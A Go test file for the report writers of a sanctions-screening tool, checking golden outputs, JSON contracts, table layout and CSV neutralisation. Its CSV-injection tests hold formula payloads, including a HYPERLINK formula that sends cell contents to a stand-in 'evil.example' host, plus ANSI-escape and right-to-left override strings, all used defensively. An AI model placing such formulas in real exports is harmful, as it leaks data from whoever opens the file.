package report

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/screen-compliance/screen/entity"
	"github.com/screen-compliance/screen/record"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// fixedInfo is the RunInfo of every golden file: a fixed time keeps the
// output byte-identical.
func fixedInfo() RunInfo {
	return RunInfo{
		SchemaVersion: "1",
		RunID:         "run-20261123T120000.000000000Z",
		CreatedAt:     time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC),
		Tool:          "screen v0.1.0",
		Lists: []entity.Metadata{
			{Name: "un", Title: "UN Security Council Consolidated List", Version: "2026-11-01",
				Files:  []entity.FileDigest{{Path: "consolidated.xml", SHA256: "aa11"}},
				Counts: map[entity.Kind]int{entity.KindPerson: 2, entity.KindOrganization: 1}},
			{Name: "ofac", Title: "OFAC SDN", Version: "2026-11-20"},
		},
		PolicySHA256: "9f2c4e1d0b7a6c5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e",
		Inputs:       []string{"shipments.csv", "-"},
		Flags:        []string{"--fail-on=block", "--format=json"},
		Rules: []RuleDoc{{
			ID: "dprk.goods.export_ban", Title: "Goods supplied to the DPRK are banned", Severity: record.Block,
			Description: "A goods line falls in a UN sectoral export ban and the movement is to the DPRK.",
			Citation:    "UN DPRK sectoral export bans (see the category citation)",
			Resources: []string{
				"UNSCR 2397 (2017) paras 7 and 14 <https://undocs.org/S/RES/2397(2017)>",
				"UNSCR 1718 (2006) para 8(a) <https://undocs.org/S/RES/1718(2006)>",
			},
		}},
	}
}

// loadDecisions reads the fixture decisions, one JSON object per line.
func loadDecisions(t testing.TB) []record.Decision {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", "decisions.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []record.Decision
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for line := 1; sc.Scan(); line++ {
		var d record.Decision
		if err := json.Unmarshal(sc.Bytes(), &d); err != nil {
			t.Fatalf("testdata/decisions.jsonl line %d: %v", line, err)
		}
		out = append(out, d)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// render writes ds in format and returns the output.
func render(t testing.TB, format string, ds []record.Decision, opts Options) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(format, &buf, fixedInfo(), opts)
	if err != nil {
		t.Fatalf("New(%q): %v", format, err)
	}
	for i := range ds {
		if err := w.Write(&ds[i]); err != nil {
			t.Fatalf("%s: Write record %d: %v", format, i, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("%s: Close: %v", format, err)
	}
	return buf.Bytes()
}

// checkGolden compares got with testdata/golden/name.golden, or rewrites
// the file under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (go test ./report -update rewrites it)\n--- got ---\n%s\n--- want ---\n%s", name, path, got, want)
	}
}

// goldenCases are the text formats with golden files.
func goldenCases() []struct {
	name, format string
	opts         Options
} {
	return []struct {
		name, format string
		opts         Options
	}{
		{"table", FormatTable, Options{}},
		{"table_explain_color", FormatTable, Options{Explain: true, Color: true}},
		{"table_suppressed", FormatTable, Options{ShowSuppressed: true}},
		{"json", FormatJSON, Options{}},
		{"jsonl", FormatJSONL, Options{}},
		{"csv", FormatCSV, Options{}},
		{"sarif", FormatSARIF, Options{}},
		{"junit", FormatJUnit, Options{}},
		{"github", FormatGitHub, Options{}},
	}
}

func TestGolden(t *testing.T) {
	ds := loadDecisions(t)
	for _, tc := range goldenCases() {
		t.Run(tc.name, func(t *testing.T) {
			got := render(t, tc.format, ds, tc.opts)
			again := render(t, tc.format, ds, tc.opts)
			if !bytes.Equal(got, again) {
				t.Fatalf("%s output is not deterministic", tc.name)
			}
			checkGolden(t, tc.name, got)
		})
	}
}

// TestEmptyRun checks that every format writes a complete document when no
// record comes.
func TestEmptyRun(t *testing.T) {
	for _, tc := range goldenCases() {
		t.Run(tc.name, func(t *testing.T) {
			checkGolden(t, "empty_"+tc.name, render(t, tc.format, nil, tc.opts))
		})
	}
}

func TestNewUnknownFormat(t *testing.T) {
	_, err := New("yaml", &bytes.Buffer{}, fixedInfo(), Options{})
	if err == nil {
		t.Fatal("New(yaml) succeeded")
	}
	for _, f := range Formats() {
		if !strings.Contains(err.Error(), f) {
			t.Errorf("error %q does not list format %q", err, f)
		}
	}
	if _, err := New(" JSON ", &bytes.Buffer{}, fixedInfo(), Options{}); err != nil {
		t.Errorf("format names are case-insensitive: %v", err)
	}
	if _, err := New("json", nil, fixedInfo(), Options{}); err == nil {
		t.Error("New with a nil io.Writer succeeded")
	}
}

func TestWriteAfterClose(t *testing.T) {
	ds := loadDecisions(t)
	for _, f := range Formats() {
		w, err := New(f, &bytes.Buffer{}, fixedInfo(), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatalf("%s: Close: %v", f, err)
		}
		if err := w.Close(); err != nil {
			t.Errorf("%s: second Close: %v", f, err)
		}
		if err := w.Write(&ds[0]); err == nil {
			t.Errorf("%s: Write after Close succeeded", f)
		}
	}
}

// TestJSONEnvelope parses the envelope back and checks its contract.
func TestJSONEnvelope(t *testing.T) {
	ds := loadDecisions(t)
	var env struct {
		SchemaVersion string            `json:"schema_version"`
		RunID         string            `json:"run_id"`
		CreatedAt     time.Time         `json:"created_at"`
		Tool          string            `json:"tool"`
		Lists         []entity.Metadata `json:"lists"`
		PolicySHA256  string            `json:"policy_sha256"`
		Inputs        []string          `json:"inputs"`
		Summary       Summary           `json:"summary"`
		Results       []record.Decision `json:"results"`
	}
	if err := json.Unmarshal(render(t, FormatJSON, ds, Options{}), &env); err != nil {
		t.Fatalf("envelope is not JSON: %v", err)
	}
	info := fixedInfo()
	if env.SchemaVersion != "1" || env.RunID != info.RunID || !env.CreatedAt.Equal(info.CreatedAt) ||
		env.Tool != info.Tool || env.PolicySHA256 != info.PolicySHA256 || len(env.Inputs) != 2 || len(env.Lists) != 2 {
		t.Errorf("envelope head = %+v", env)
	}
	want := Summary{Clear: 1, Review: 2, Block: 1, Error: 1, Total: 5}
	if env.Summary != want {
		t.Errorf("summary = %+v, want %+v", env.Summary, want)
	}
	if len(env.Results) != len(ds) {
		t.Fatalf("%d results, want %d", len(env.Results), len(ds))
	}
	for i := range ds {
		// The envelope writes each decision with its context categories marked.
		a, _ := json.Marshal(withContext(&ds[i]))
		b, _ := json.Marshal(env.Results[i])
		if !bytes.Equal(a, b) {
			t.Errorf("result %d round trip:\n got %s\nwant %s", i, b, a)
		}
	}
}

// TestJSONLContract checks that each line is exactly the Decision JSON and
// that empty lists are [] rather than null.
func TestJSONLContract(t *testing.T) {
	d := record.Decision{ID: "X", Row: 1, Decision: record.Clear}
	out := render(t, FormatJSONL, []record.Decision{d}, Options{})
	line := strings.TrimSuffix(string(out), "\n")
	if strings.Contains(line, "\n") {
		t.Fatalf("jsonl wrote more than one line: %q", out)
	}
	for _, key := range []string{`"reasons":[]`, `"matches":[]`, `"goods":[]`} {
		if !strings.Contains(line, key) {
			t.Errorf("jsonl line %s lacks %s", line, key)
		}
	}
	var back record.Decision
	if err := json.Unmarshal([]byte(line), &back); err != nil || back.ID != "X" {
		t.Errorf("jsonl line does not decode to the decision: %v %+v", err, back)
	}
	if d.Reasons != nil {
		t.Error("jsonl writer changed the caller's decision")
	}
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"ACME", "ACME"},
		{"=1+1", "'=1+1"},
		{"+cmd", "'+cmd"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{"0.94", "0.94"},
	}
	for _, tc := range tests {
		if got := Neutralise(tc.in); got != tc.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSVInjection reads the csv back and checks that no cell a
// spreadsheet would run as a formula survives.
func TestCSVInjection(t *testing.T) {
	ds := loadDecisions(t)
	rows, err := csv.NewReader(bytes.NewReader(render(t, FormatCSV, ds, Options{ShowSuppressed: true}))).ReadAll()
	if err != nil {
		t.Fatalf("csv output does not parse: %v", err)
	}
	if len(rows) != len(ds)+1 {
		t.Fatalf("%d csv rows, want header + %d", len(rows), len(ds))
	}
	header := resultHeader()
	for i, row := range rows {
		if len(row) != len(header) {
			t.Errorf("row %d has %d cells, want %d", i, len(row), len(header))
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s = %q starts with a formula character", i, header[j], cell)
			}
		}
	}
	inj := rows[5]
	for col, want := range map[int]string{
		rcID:             `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		rcTopMatchedName: "'-2+3 TRADING",
		rcCitations:      "'@SUM(1+1)",
		rcError:          "'\tinjected",
		rcSuppressed:     "own.watchlist",
	} {
		if inj[col] != want {
			t.Errorf("injection row %s = %q, want %q", header[col], inj[col], want)
		}
	}
	if !strings.HasPrefix(inj[rcMessages], "'+cmd") {
		t.Errorf("injection row messages = %q, want a neutralised +cmd", inj[rcMessages])
	}
}

// TestTableWidth checks that the table stays within 120 columns apart from
// detail text that cannot be broken, and that control characters never
// reach the terminal.
func TestTableWidth(t *testing.T) {
	ds := loadDecisions(t)
	tw := newTable(&bytes.Buffer{}, fixedInfo(), Options{})
	out := render(t, FormatTable, ds, Options{Explain: true, ShowSuppressed: true})
	for i, line := range strings.Split(strings.TrimSuffix(string(out), "\n"), "\n") {
		if w := tw.width.StringWidth(line); w > tableWidth {
			t.Errorf("line %d is %d columns wide: %q", i+1, w, line)
		}
		if strings.ContainsAny(line, "\x1b\r\t") {
			t.Errorf("line %d holds a control character: %q", i+1, line)
		}
	}
}

func TestTableColor(t *testing.T) {
	ds := loadDecisions(t)
	plain := string(render(t, FormatTable, ds, Options{}))
	if strings.Contains(plain, "\x1b[") {
		t.Error("table without Color holds ANSI escapes")
	}
	col := string(render(t, FormatTable, ds, Options{Color: true}))
	if !strings.Contains(col, "\x1b[1;31mblock\x1b[0m") {
		t.Error("table with Color does not colour block")
	}
	if n := strings.Count(col, "\x1b[0m"); n != len(ds) {
		t.Errorf("%d colour resets, want one per record (%d)", n, len(ds))
	}
}

func TestClean(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"a\x1b[31mb", `a\x1b[31mb`},
		{"two\nlines", "two lines"},
		{"rtl\u202eevil", `rtl\u202eevil`},
		{"조선", "조선"},
	}
	for _, tc := range tests {
		if got := clean(tc.in); got != tc.want {
			t.Errorf("clean(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestTopMatchTie(t *testing.T) {
	d := &record.Decision{Matches: []record.Match{{EntityID: "a", Score: 0.9}, {EntityID: "b", Score: 0.9}, {EntityID: "c", Score: 0.5}}}
	if m := topMatch(d); m == nil || m.EntityID != "a" {
		t.Errorf("topMatch = %+v, want the first of equal scores", m)
	}
	if topMatch(&record.Decision{}) != nil {
		t.Error("topMatch of no matches is not nil")
	}
}

func TestSummaryUnknownIsError(t *testing.T) {
	var s Summary
	for _, d := range []string{"clear", "review", "block", "error", "bogus", ""} {
		s.Add(d)
	}
	want := Summary{Clear: 1, Review: 1, Block: 1, Error: 3, Total: 6}
	if s != want {
		t.Errorf("summary = %+v, want %+v", s, want)
	}
	if got := (Summary{Total: 1, Block: 1}).String(); got != "1 record: 0 clear, 0 review, 1 block, 0 error" {
		t.Errorf("String = %q", got)
	}
}

// failWriter fails every write.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// TestWriteErrors checks that every format reports a failing output.
func TestWriteErrors(t *testing.T) {
	ds := loadDecisions(t)
	for _, f := range Formats() {
		w, err := New(f, failWriter{}, fixedInfo(), Options{})
		if err != nil {
			t.Fatal(err)
		}
		var first error
		for i := range ds {
			if err := w.Write(&ds[i]); err != nil && first == nil {
				first = err
			}
		}
		if err := w.Close(); err != nil && first == nil {
			first = err
		}
		if first == nil || !strings.Contains(first.Error(), "disk full") {
			t.Errorf("%s: error = %v, want the output's error", f, first)
		}
	}
}
